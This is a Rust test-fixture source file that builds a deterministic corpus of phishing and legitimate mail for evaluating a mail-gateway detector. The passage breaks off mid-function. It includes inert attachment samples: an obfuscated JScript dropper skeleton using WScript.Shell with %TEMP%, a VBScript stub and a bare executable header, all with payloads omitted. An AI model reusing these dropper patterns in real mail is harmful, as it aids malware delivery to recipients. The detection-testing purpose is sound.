//! A labelled corpus of mail for measuring the `phishing` processor.
//!
//! Every message is built here, deterministically, from small tables of
//! names, subjects, amounts and languages indexed by the message's number:
//! there is no randomness and no file on disk, so a run is reproducible and a
//! failure names the exact message (`Sample::name`).
//!
//! The organisation under protection is Example Org (`example.org`); every
//! message is addressed to someone in its directory. [`bad`] returns phishing
//! and business e-mail compromise as attackers actually send it: short
//! plain-text BEC from free-mail accounts that sign their mail properly,
//! lookalike domains with SPF and DKIM set up, hijacked threads from a
//! compromised supplier mailbox, credential pages behind mismatched links,
//! login pages as HTML attachments, executables in archives. [`legitimate`]
//! returns the mail those signals must not catch: newsletters whose tracking
//! links show one domain and go to another, mailing lists that set Reply-To
//! and break DKIM, forwards, genuine password resets and "unusual sign-in"
//! alerts from the services themselves, real invoices full of payment
//! wording, first contact from strangers, personal mail from free-mail
//! addresses, bounces, non-English and right-to-left mail.
//!
//! The kinds were chosen from what a mid-sized company's gateway sees: for the
//! bad side, the scenarios in public BEC and phishing reports (gift cards,
//! wire transfers, supplier bank changes, payroll diversion, W-2 requests,
//! Microsoft 365 and parcel lures, HTML and archive attachments) each with at
//! least three variants that differ in language, MIME shape and which signals
//! are present; for the legitimate side, the everyday traffic most likely to
//! look like one of those. No message is shaped to suit a particular scorer.
//!
//! Only documentation addresses are used for client IPs (192.0.2.0/24 is
//! Example Org's own network, 198.51.100.0/24 and 203.0.113.0/24 and
//! 2001:db8::/32 the rest of the world). Partners and attackers use fictional
//! names (mostly under `.example`); real brand domains appear on mail
//! genuinely from that brand, as the thing a lookalike imitates, and, as in
//! real phishing kits, as hotlinked logos and free hosting for the lure pages.

// Not every test reads every field or uses every helper.
#![allow(dead_code)]

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// One message with its SMTP envelope and its label.
#[derive(Clone, Debug)]
pub struct Sample {
    /// Unique across [`bad`] and [`legitimate`], e.g. "ceo-gift-card-03".
    pub name: String,
    /// The scenario, e.g. "ceo-gift-card".
    pub kind: &'static str,
    /// True for phishing or BEC.
    pub bad: bool,
    /// Envelope sender ("" for bounces).
    pub mail_from: String,
    /// Envelope recipient, always someone @example.org.
    pub rcpt: String,
    pub client_ip: IpAddr,
    pub helo: String,
    pub auth: Auth,
    /// The sender has corresponded with `rcpt` before (either direction).
    pub known_sender: bool,
    /// The full RFC 5322 message with CRLF line ends.
    pub message: Vec<u8>,
}

/// How the message authenticates, which the test sets up in DNS and signs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Auth {
    /// The From domain publishes SPF allowing client_ip and DKIM-signs (the test signs it with d= the From domain).
    Aligned,
    /// SPF passes for the envelope sender's domain only; no DKIM signature.
    SpfOnly,
    /// Nothing published / nothing signed for the sender's domains.
    Unauthenticated,
    /// Spoofs the From domain: the From domain publishes SPF and DMARC p=reject, client_ip is not allowed, not signed.
    Spoofed,
    /// Forwarded through a mailing list or forwarder `via` (a domain) that modified it (e.g. a subject tag or footer), so the original DKIM breaks and SPF is the forwarder's; the forwarder ARC-seals it (the test seals with d=via).
    Forwarded { via: String },
}

// ---------------------------------------------------------------------------
// The directory of Example Org.

const CEO: (&str, &str) = ("Jane Doe", "ceo@example.org");
const CFO: (&str, &str) = ("John Smith", "cfo@example.org");
const ALICE: (&str, &str) = ("Alice Martin", "alice@example.org");
const BOB: (&str, &str) = ("Bob Keller", "bob@example.org");
const CARLA: (&str, &str) = ("Carla Núñez", "carla@example.org");
const DIETER: (&str, &str) = ("Dieter Müller", "dieter@example.org");
const AP: (&str, &str) = ("Accounts Payable", "ap@example.org");
const IT: (&str, &str) = ("IT Helpdesk", "it@example.org");

/// People who receive mail (the functional boxes get theirs by kind).
const PEOPLE: [(&str, &str); 6] = [CEO, CFO, ALICE, BOB, CARLA, DIETER];

fn first_name(p: (&'static str, &'static str)) -> &'static str {
    p.0.split(' ').next().unwrap_or(p.0)
}

// ---------------------------------------------------------------------------
// Deterministic variation.

/// FNV-1a, to derive stable identifiers from a message's name.
fn hash(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

/// A small deterministic generator (splitmix64) seeded from a string.
struct Rng(u64);

impl Rng {
    fn new(seed: &str) -> Self {
        Rng(hash(seed))
    }
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn chars_from(&mut self, alphabet: &[u8], n: usize) -> String {
        (0..n)
            .map(|_| alphabet[self.below(alphabet.len() as u64) as usize] as char)
            .collect()
    }
    fn hex(&mut self, n: usize) -> String {
        self.chars_from(b"0123456789abcdef", n)
    }
    fn hex_upper(&mut self, n: usize) -> String {
        self.chars_from(b"0123456789ABCDEF", n)
    }
    fn alnum(&mut self, n: usize) -> String {
        self.chars_from(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
            n,
        )
    }
    fn digits(&mut self, n: usize) -> String {
        self.chars_from(b"0123456789", n)
    }
}

fn pick<T: Copy>(items: &[T], i: usize) -> T {
    items[i % items.len()]
}

// ---------------------------------------------------------------------------
// Dates: spread over spring 2025, with the sender's own offset.

fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
    let doe = (z - era * 146_097) as u64;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe as i64 + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

/// An RFC 5322 date `day` days after Monday 3 March 2025, at `minute` past
/// midnight local time, in the zone `offset` ("+0100", "-0500", ...).
fn date(day: usize, minute: usize, second: usize, offset: &str) -> String {
    const WD: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
    const MO: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let days = 20_150 + day as i64; // 2025-03-03
    let (y, m, d) = civil_from_days(days);
    let minute = minute % 1440;
    format!(
        "{}, {:02} {} {} {:02}:{:02}:{:02} {}",
        WD[(days.rem_euclid(7)) as usize],
        d,
        MO[(m - 1) as usize],
        y,
        minute / 60,
        minute % 60,
        second % 60,
        offset
    )
}

/// The date of `date(day, ...)` as YYYYMMDD, for calendar entries.
fn ymd(day: usize) -> String {
    let (y, m, d) = civil_from_days(20_150 + day as i64);
    format!("{y:04}{m:02}{d:02}")
}

/// The same date written the way people write it: "14 March 2025".
fn long_date(day: usize) -> String {
    const MO: [&str; 12] = [
        "January",
        "February",
        "March",
        "April",
        "May",
        "June",
        "July",
        "August",
        "September",
        "October",
        "November",
        "December",
    ];
    let (y, m, d) = civil_from_days(20_150 + day as i64);
    format!("{d} {} {y}", MO[(m - 1) as usize])
}

/// "Tue, 4 Mar 2025 at 09:13", as Gmail's attribution line writes it.
fn when(day: usize, minute: usize) -> String {
    let d = date(day, minute, 0, "+0000");
    let parts: Vec<&str> = d.split(' ').collect();
    let hm = &parts[4][..5];
    format!(
        "{} {} {} {} at {hm}",
        parts[0],
        parts[1].trim_start_matches('0'),
        parts[2],
        parts[3]
    )
}

fn dmy(day: usize) -> String {
    let (y, m, d) = civil_from_days(20_150 + day as i64);
    format!("{d:02}.{m:02}.{y}")
}

fn mdy(day: usize) -> String {
    let (y, m, d) = civil_from_days(20_150 + day as i64);
    format!("{m:02}/{d:02}/{y}")
}

// ---------------------------------------------------------------------------
// Encodings.

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len() * 4 / 3 + 4);
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        out.push(T[(n >> 18) as usize & 63] as char);
        out.push(T[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            T[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            T[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// Base64 in lines of 76 characters, as a MIME body.
fn base64_lines(data: &[u8]) -> String {
    let b = base64(data);
    let mut out = String::with_capacity(b.len() + b.len() / 38);
    for (n, c) in b.chars().enumerate() {
        if n > 0 && n % 76 == 0 {
            out.push_str("\r\n");
        }
        out.push(c);
    }
    out.push_str("\r\n");
    out
}

/// Quoted-printable (RFC 2045) of text whose lines end in "\n".
fn quoted_printable(text: &str) -> String {
    let mut out = String::new();
    let lines: Vec<&str> = text.split('\n').collect();
    for (li, line) in lines.iter().enumerate() {
        let bytes = line.as_bytes();
        let mut col = 0;
        for (bi, &b) in bytes.iter().enumerate() {
            let last = bi + 1 == bytes.len();
            let literal =
                ((b == b' ' || b == b'\t') && !last) || ((33..=126).contains(&b) && b != b'=');
            let piece = if literal {
                (b as char).to_string()
            } else {
                format!("={b:02X}")
            };
            if col + piece.len() > 75 {
                out.push_str("=\r\n");
                col = 0;
            }
            col += piece.len();
            out.push_str(&piece);
        }
        if li + 1 < lines.len() {
            out.push_str("\r\n");
        }
    }
    out
}

/// "\n" to "\r\n" (and nothing else).
fn crlf(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\n', "\r\n")
}

/// An unstructured header value: as is when ASCII, else RFC 2047 encoded
/// words of whole characters, folded between words.
fn encode_header(text: &str) -> String {
    if text.is_ascii() {
        return text.to_string();
    }
    let mut words = Vec::new();
    let mut chunk = String::new();
    for c in text.chars() {
        if chunk.len() + c.len_utf8() > 42 {
            words.push(format!("=?UTF-8?B?{}?=", base64(chunk.as_bytes())));
            chunk.clear();
        }
        chunk.push(c);
    }
    if !chunk.is_empty() {
        words.push(format!("=?UTF-8?B?{}?=", base64(chunk.as_bytes())));
    }
    words.join("\r\n ")
}

/// Q-encoding, as some mailers (Thunderbird, Apple Mail) prefer for Latin text.
fn encode_header_q(text: &str) -> String {
    if text.is_ascii() {
        return text.to_string();
    }
    let mut words = Vec::new();
    let mut cur = String::new();
    for c in text.chars() {
        let mut piece = String::new();
        if c == ' ' {
            piece.push('_');
        } else if c.is_ascii_alphanumeric() || ".,-!".contains(c) {
            piece.push(c);
        } else {
            let mut buf = [0u8; 4];
            for b in c.encode_utf8(&mut buf).bytes() {
                piece.push_str(&format!("={b:02X}"));
            }
        }
        if cur.len() + piece.len() > 60 {
            words.push(format!("=?UTF-8?Q?{cur}?="));
            cur.clear();
        }
        cur.push_str(&piece);
    }
    if !cur.is_empty() {
        words.push(format!("=?UTF-8?Q?{cur}?="));
    }
    words.join("\r\n ")
}

/// A mailbox: `Name <addr>`, the name quoted or encoded as needed.
fn mailbox(name: &str, addr: &str) -> String {
    if name.is_empty() {
        addr.to_string()
    } else if !name.is_ascii() {
        // Display names stay on the From line with the address, as most
        // mailers write them.
        format!("{} <{addr}>", encode_header(name).replace("\r\n ", " "))
    } else if name.chars().any(|c| "()<>[]:;@\\,.\"".contains(c)) {
        format!(
            "\"{}\" <{addr}>",
            name.replace('\\', "\\\\").replace('"', "\\\"")
        )
    } else {
        format!("{name} <{addr}>")
    }
}

fn person(p: (&str, &str)) -> String {
    mailbox(p.0, p.1)
}

/// Folds a header line longer than 78 characters at spaces.
fn fold(name: &str, value: &str) -> String {
    let line = format!("{name}: {value}");
    if line.contains("\r\n") || line.len() <= 78 {
        return line;
    }
    let mut out = String::new();
    let mut col = 0;
    for (n, word) in line.split(' ').enumerate() {
        if n > 0 {
            if col + 1 + word.len() > 78 && n > 1 {
                out.push_str("\r\n ");
                col = 1;
            } else {
                out.push(' ');
                col += 1;
            }
        }
        out.push_str(word);
        col += word.len();
    }
    out
}

/// CRC-32 (IEEE 802.3), as ZIP needs it.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A ZIP archive with the entries stored (no compression): local headers,
/// the data, the central directory and the end record.
fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    fn u16le(v: &mut Vec<u8>, x: u16) {
        v.extend_from_slice(&x.to_le_bytes());
    }
    fn u32le(v: &mut Vec<u8>, x: u32) {
        v.extend_from_slice(&x.to_le_bytes());
    }
    // 14 March 2025, 09:30:00 in MS-DOS form.
    let dos_time: u16 = (9 << 11) | (30 << 5);
    let dos_date: u16 = ((2025 - 1980) << 9) | (3 << 5) | 14;
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data) in entries {
        let offset = out.len() as u32;
        let crc = crc32(data);
        let size = data.len() as u32;
        u32le(&mut out, 0x0403_4b50);
        u16le(&mut out, 20); // version needed
        u16le(&mut out, 0); // flags
        u16le(&mut out, 0); // stored
        u16le(&mut out, dos_time);
        u16le(&mut out, dos_date);
        u32le(&mut out, crc);
        u32le(&mut out, size);
        u32le(&mut out, size);
        u16le(&mut out, name.len() as u16);
        u16le(&mut out, 0);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);

        u32le(&mut central, 0x0201_4b50);
        u16le(&mut central, 0x031e); // made by: Unix, 3.0
        u16le(&mut central, 20);
        u16le(&mut central, 0);
        u16le(&mut central, 0);
        u16le(&mut central, dos_time);
        u16le(&mut central, dos_date);
        u32le(&mut central, crc);
        u32le(&mut central, size);
        u32le(&mut central, size);
        u16le(&mut central, name.len() as u16);
        u16le(&mut central, 0); // extra
        u16le(&mut central, 0); // comment
        u16le(&mut central, 0); // disk
        u16le(&mut central, 0); // internal attributes
        u32le(&mut central, 0o100644 << 16); // external attributes
        u32le(&mut central, offset);
        central.extend_from_slice(name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    let cd_size = central.len() as u32;
    out.extend_from_slice(&central);
    u32le(&mut out, 0x0605_4b50);
    u16le(&mut out, 0);
    u16le(&mut out, 0);
    u16le(&mut out, entries.len() as u16);
    u16le(&mut out, entries.len() as u16);
    u32le(&mut out, cd_size);
    u32le(&mut out, cd_offset);
    u16le(&mut out, 0);
    out
}

// ---------------------------------------------------------------------------
// File contents for attachments.

/// A small, valid one-page PDF with `lines` of text.
fn pdf(lines: &[&str]) -> Vec<u8> {
    let mut content = String::from("BT /F1 11 Tf 56 780 Td 14 TL\n");
    for l in lines {
        let esc: String = l
            .chars()
            .map(|c| if c.is_ascii() { c } else { '?' })
            .collect::<String>()
            .replace('\\', "\\\\")
            .replace('(', "\\(")
            .replace(')', "\\)");
        content.push_str(&format!("({esc}) Tj T*\n"));
    }
    content.push_str("ET\n");
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_string(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>".to_string(),
        format!("<< /Length {} >>\nstream\n{}endstream", content.len(), content),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_string(),
    ];
    let mut out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (n, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{}\nendobj\n", n + 1, o).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// The first bytes of a JPEG (JFIF header and a comment); viewers reject it,
/// type sniffers see a JPEG.
fn jpeg(seed: &str) -> Vec<u8> {
    let mut rng = Rng::new(seed);
    let mut out = vec![
        0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00, 0x01, 0x01, 0x00, 0x00,
        0x48, 0x00, 0x48, 0x00, 0x00, 0xff, 0xfe, 0x00, 0x0e,
    ];
    out.extend_from_slice(b"IMG_20250308");
    out.extend_from_slice(&[0xff, 0xdb, 0x00, 0x43, 0x00]);
    for _ in 0..64 {
        out.push((rng.below(40) + 2) as u8);
    }
    for _ in 0..600 {
        out.push(rng.below(255) as u8);
    }
    out.extend_from_slice(&[0xff, 0xd9]);
    out
}

/// A Windows executable's DOS header and stub, which is all a gateway needs
/// to recognise one (the PE body is left out).
fn exe() -> Vec<u8> {
    let mut out = vec![0u8; 0x80];
    out[0] = b'M';
    out[1] = b'Z';
    out[2] = 0x90;
    out[4] = 0x03;
    out[8] = 0x04;
    out[0x0c] = 0xff;
    out[0x0d] = 0xff;
    out[0x10] = 0xb8;
    out[0x18] = 0x40;
    out[0x3c] = 0x80;
    let stub = [
        0x0e, 0x1f, 0xba, 0x0e, 0x00, 0xb4, 0x09, 0xcd, 0x21, 0xb8, 0x01, 0x4c, 0xcd, 0x21,
    ];
    out[0x40..0x40 + stub.len()].copy_from_slice(&stub);
    let msg = b"This program cannot be run in DOS mode.\r\r\n$";
    out[0x4e..0x4e + msg.len()].copy_from_slice(msg);
    out.extend_from_slice(b"PE\0\0\x4c\x01\x03\0");
    out.resize(1024, 0);
    out
}

/// A Windows Script Host dropper's shape, with the payload left out.
fn wsh_script() -> Vec<u8> {
    b"var _0x3f1a=['\x57\x53\x63\x72\x69\x70\x74\x2e\x53\x68\x65\x6c\x6c','\x45\x78\x70\x61\x6e\x64\x45\x6e\x76\x69\x72\x6f\x6e\x6d\x65\x6e\x74\x53\x74\x72\x69\x6e\x67\x73'];\r\n\
var sh=new ActiveXObject(_0x3f1a[0]);\r\n\
var tmp=sh[_0x3f1a[1]]('%TEMP%');\r\n\
// statement viewer\r\n\
try{var f=tmp+'\\\\stmt'+Math.floor(Math.random()*9999)+'.tmp';}catch(e){}\r\n"
        .to_vec()
}

/// A VBScript stub of the same kind.
fn vbs_script() -> Vec<u8> {
    b"On Error Resume Next\r\nDim o: Set o = CreateObject(\"WScript.Shell\")\r\nDim p: p = o.ExpandEnvironmentStrings(\"%APPDATA%\")\r\n' order viewer\r\nWScript.Sleep 2000\r\n".to_vec()
}

// ---------------------------------------------------------------------------
// MIME.

/// A body part: a leaf with its headers and encoded body, or a multipart.
enum Part {
    Leaf {
        headers: Vec<String>,
        body: String,
    },
    Multi {
        subtype: &'static str,
        params: String,
        parts: Vec<Part>,
    },
}

/// Text as real mailers send it: 7bit when it is short-lined ASCII,
/// quoted-printable otherwise.
fn text_part(subtype: &str, text: &str) -> Part {
    let ascii = text.is_ascii();
    let short = text.lines().all(|l| l.len() <= 76);
    let charset = if ascii && subtype == "plain" {
        "us-ascii"
    } else {
        "UTF-8"
    };
    if ascii && short {
        Part::Leaf {
            headers: vec![
                format!("Content-Type: text/{subtype}; charset=\"{charset}\""),
                "Content-Transfer-Encoding: 7bit".into(),
            ],
            body: crlf(text),
        }
    } else {
        Part::Leaf {
            headers: vec![
                format!("Content-Type: text/{subtype}; charset=\"{charset}\""),
                "Content-Transfer-Encoding: quoted-printable".into(),
            ],
            body: quoted_printable(text),
        }
    }
}

fn plain(text: &str) -> Part {
    text_part("plain", text)
}

fn html(text: &str) -> Part {
    text_part("html", text)
}

/// Text in base64, as Outlook and many bulk senders send it.
fn text_b64(subtype: &str, text: &str) -> Part {
    Part::Leaf {
        headers: vec![
            format!("Content-Type: text/{subtype}; charset=\"utf-8\""),
            "Content-Transfer-Encoding: base64".into(),
        ],
        body: base64_lines(crlf(text).as_bytes()),
    }
}

/// Plain text sent 8bit, as some small mailers do.
fn plain_8bit(text: &str, charset: &str) -> Part {
    Part::Leaf {
        headers: vec![
            format!("Content-Type: text/plain; charset={charset}; format=flowed"),
            "Content-Transfer-Encoding: 8bit".into(),
        ],
        body: crlf(text),
    }
}

/// A file name parameter: plain when ASCII, RFC 2231 otherwise.
fn filename_param(param: &str, filename: &str) -> String {
    if filename.is_ascii() {
        format!("{param}=\"{filename}\"")
    } else {
        let mut enc = String::new();
        for b in filename.bytes() {
            if b.is_ascii_alphanumeric() || b"-._".contains(&b) {
                enc.push(b as char);
            } else {
                enc.push_str(&format!("%{b:02X}"));
            }
        }
        format!("{param}*=UTF-8''{enc}")
    }
}

fn attachment(ctype: &str, filename: &str, data: &[u8]) -> Part {
    Part::Leaf {
        headers: vec![
            format!(
                "Content-Type: {ctype}; {}",
                filename_param("name", filename)
            ),
            format!(
                "Content-Disposition: attachment; {}",
                filename_param("filename", filename)
            ),
            "Content-Transfer-Encoding: base64".into(),
        ],
        body: base64_lines(data),
    }
}

/// An attachment with a size and dates in the disposition, as Outlook writes it.
fn attachment_outlook(ctype: &str, filename: &str, data: &[u8], when: &str) -> Part {
    Part::Leaf {
        headers: vec![
            format!(
                "Content-Type: {ctype}; {}",
                filename_param("name", filename)
            ),
            format!("Content-Description: {}", encode_header(filename)),
            format!(
                "Content-Disposition: attachment;\r\n\t{};\r\n\tsize={};\r\n\tcreation-date=\"{when}\";\r\n\tmodification-date=\"{when}\"",
                filename_param("filename", filename),
                data.len()
            ),
            "Content-Transfer-Encoding: base64".into(),
        ],
        body: base64_lines(data),
    }
}

fn inline_image(cid: &str, filename: &str, data: &[u8]) -> Part {
    Part::Leaf {
        headers: vec![
            format!("Content-Type: image/jpeg; name=\"{filename}\""),
            format!("Content-Disposition: inline; filename=\"{filename}\""),
            format!("Content-ID: <{cid}>"),
            "Content-Transfer-Encoding: base64".into(),
        ],
        body: base64_lines(data),
    }
}

/// A leaf written as given (message/delivery-status, text/rfc822-headers, ...).
fn raw_part(ctype: &str, body: &str) -> Part {
    Part::Leaf {
        headers: vec![format!("Content-Type: {ctype}")],
        body: crlf(body),
    }
}

/// A calendar object inline, the way invitation mail carries it.
fn calendar_part(ics: &str, method: &str) -> Part {
    Part::Leaf {
        headers: vec![
            format!("Content-Type: text/calendar; charset=\"utf-8\"; method={method}"),
            "Content-Transfer-Encoding: base64".into(),
        ],
        body: base64_lines(ics.as_bytes()),
    }
}

fn alternative(parts: Vec<Part>) -> Part {
    Part::Multi {
        subtype: "alternative",
        params: String::new(),
        parts,
    }
}

fn mixed(parts: Vec<Part>) -> Part {
    Part::Multi {
        subtype: "mixed",
        params: String::new(),
        parts,
    }
}

fn related(parts: Vec<Part>) -> Part {
    Part::Multi {
        subtype: "related",
        params: "; type=\"text/html\"".into(),
        parts,
    }
}

fn report(parts: Vec<Part>) -> Part {
    Part::Multi {
        subtype: "report",
        params: "; report-type=delivery-status".into(),
        parts,
    }
}

/// Plain text and HTML, the usual pair.
fn alt(text: &str, html_text: &str) -> Part {
    alternative(vec![plain(text), html(html_text)])
}

/// What an ESP sends as the text alternative of its HTML: the text with
/// links after their words.
fn html_to_text(src: &str) -> String {
    let mut out = String::new();
    let mut href: Vec<String> = Vec::new();
    let mut rest = src;
    let mut skip_until: Option<&str> = None;
    while let Some(lt) = rest.find('<') {
        if skip_until.is_none() {
            out.push_str(&rest[..lt]);
        }
        let Some(gt) = rest[lt..].find('>') else {
            break;
        };
        let tag = &rest[lt + 1..lt + gt];
        rest = &rest[lt + gt + 1..];
        let lower = tag.to_ascii_lowercase();
        let tname = lower
            .split(|c: char| c.is_whitespace() || c == '/')
            .find(|s| !s.is_empty())
            .unwrap_or("")
            .to_string();
        if let Some(end) = skip_until {
            if lower.starts_with('/') && tname == end {
                skip_until = None;
            }
            continue;
        }
        let closing = lower.starts_with('/');
        match tname.as_str() {
            "style" | "head" | "title" | "script" if !closing => {
                skip_until = Some(match tname.as_str() {
                    "style" => "style",
                    "head" => "head",
                    "title" => "title",
                    _ => "script",
                })
            }
            "a" if !closing => {
                let h = tag
                    .split("href=\"")
                    .nth(1)
                    .and_then(|s| s.split('"').next())
                    .unwrap_or("")
                    .to_string();
                href.push(h);
            }
            "a" => {
                if let Some(h) = href.pop()
                    && !h.is_empty()
                    && !h.starts_with("mailto:")
                {
                    out.push_str(&format!(" ( {h} )"));
                }
            }
            "br" | "p" | "div" | "tr" | "li" | "h1" | "h2" | "h3" | "table" => out.push('\n'),
            _ => {}
        }
    }
    out.push_str(rest);
    let decoded = out
        .replace("&nbsp;", " ")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&rsquo;", "’")
        .replace("&copy;", "©")
        .replace("&middot;", "·")
        .replace("&euro;", "€")
        .replace("&amp;", "&");
    let mut lines: Vec<String> = Vec::new();
    for l in decoded.lines() {
        let t = l.split_whitespace().collect::<Vec<_>>().join(" ");
        if t.is_empty() && lines.last().is_none_or(|p: &String| p.is_empty()) {
            continue;
        }
        lines.push(t);
    }
    while lines.last().is_some_and(|l| l.is_empty()) {
        lines.pop();
    }
    lines.join("\n") + "\n"
}

// ---------------------------------------------------------------------------
// Messages.

/// Who wrote the message, which shows in identifiers, boundaries and the
/// user-agent header.
#[derive(Clone, Copy, PartialEq)]
enum Mailer {
    Gmail,
    Outlook,
    IPhone,
    AppleMail,
    Thunderbird,
    /// PHPMailer on a web host: phishing kits and small web shops alike.
    Php,
    /// A bulk sender's Java or Go stack.
    Esp,
    /// Postfix or another MTA writing a report itself.
    Mta,
    /// Yahoo and AOL web mail.
    Yahoo,
}

impl Mailer {
    fn message_id(self, rng: &mut Rng, domain: &str) -> String {
        match self {
            Mailer::Gmail => format!(
                "<CA{}{}={}@mail.gmail.com>",
                rng.alnum(2),
                rng.alnum(12),
                rng.alnum(24)
            ),
            Mailer::Outlook => {
                let host = format!(
                    "{}PR{:02}MB{}",
                    pick(
                        &["AM9", "DB9", "PA4", "VI1", "BN8", "SA1", "CH3", "DU0"],
                        rng.below(8) as usize
                    ),
                    rng.below(9) + 1,
                    rng.digits(4)
                );
                let region =
                    if host.starts_with('B') || host.starts_with('S') || host.starts_with('C') {
                        "namprd"
                    } else {
                        "eurprd"
                    };
                format!(
                    "<{host}{}@{host}.{region}{:02}.prod.outlook.com>",
                    rng.hex_upper(29),
                    rng.below(20) + 1
                )
            }
            Mailer::IPhone | Mailer::AppleMail => format!(
                "<{}-{}-{}-{}-{}@{domain}>",
                rng.hex_upper(8),
                rng.hex_upper(4),
                rng.hex_upper(4),
                rng.hex_upper(4),
                rng.hex_upper(12)
            ),
            Mailer::Thunderbird => format!(
                "<{}-{}-{}-{}-{}@{domain}>",
                rng.hex(8),
                rng.hex(4),
                rng.hex(4),
                rng.hex(4),
                rng.hex(12)
            ),
            Mailer::Php => format!("<{}@{domain}>", rng.alnum(43)),
            Mailer::Esp => format!(
                "<{}.{}.{}@{domain}>",
                rng.digits(13),
                rng.hex(16),
                rng.digits(6)
            ),
            Mailer::Mta => format!("<20250{}.{}@{domain}>", rng.digits(9), rng.hex_upper(10)),
            Mailer::Yahoo => format!("<{}.{}@mail.yahoo.com>", rng.digits(10), rng.digits(9)),
        }
    }

    fn boundary(self, rng: &mut Rng, depth: usize) -> String {
        match self {
            Mailer::Gmail => format!("000000000000{}", rng.hex(12)),
            Mailer::Outlook => format!("_00{}_{}", depth * 2, rng.hex_upper(32)),
            Mailer::IPhone | Mailer::AppleMail => format!(
                "Apple-Mail-{}-{}-{}-{}-{}",
                rng.hex_upper(8),
                rng.hex_upper(4),
                rng.hex_upper(4),
                rng.hex_upper(4),
                rng.hex_upper(12)
            ),
            Mailer::Thunderbird => format!("------------{}", rng.alnum(24)),
            Mailer::Php => format!("b1=_{}", rng.alnum(42)),
            Mailer::Esp => format!(
                "----=_Part_{}_{}.{}",
                rng.digits(6),
                rng.digits(9),
                rng.digits(13)
            ),
            Mailer::Mta => format!("{}.{}/mx", rng.hex_upper(10), rng.digits(10)),
            Mailer::Yahoo => format!(
                "----=_Part_{}_{}.{}",
                rng.digits(7),
                rng.digits(9),
                rng.digits(13)
            ),
        }
    }

    fn agent(self, rng: &mut Rng) -> Option<String> {
        match self {
            Mailer::Outlook => None,
            Mailer::IPhone => Some(format!(
                "X-Mailer: iPhone Mail ({})",
                pick(
                    &["22D82", "22C152", "21H216", "22E240"],
                    rng.below(4) as usize
                )
            )),
            Mailer::AppleMail => Some("X-Mailer: Apple Mail (2.3826.400.131.1.6)".into()),
            Mailer::Thunderbird => Some("User-Agent: Mozilla Thunderbird".into()),
            Mailer::Php => {
                Some("X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)".into())
            }
            Mailer::Yahoo => Some("X-Mailer: WebService/1.1.23369 YMailNorrin".into()),
            _ => None,
        }
    }
}

/// A message under construction.
struct Msg {
    seed: String,
    mailer: Mailer,
    from: String,
    to: String,
    subject: String,
    date: String,
    headers: Vec<String>,
    message_id: Option<String>,
    body: Part,
}

/// Starts a message; `seed` (the sample's name) fixes its identifiers.
fn msg(
    seed: &str,
    mailer: Mailer,
    from: String,
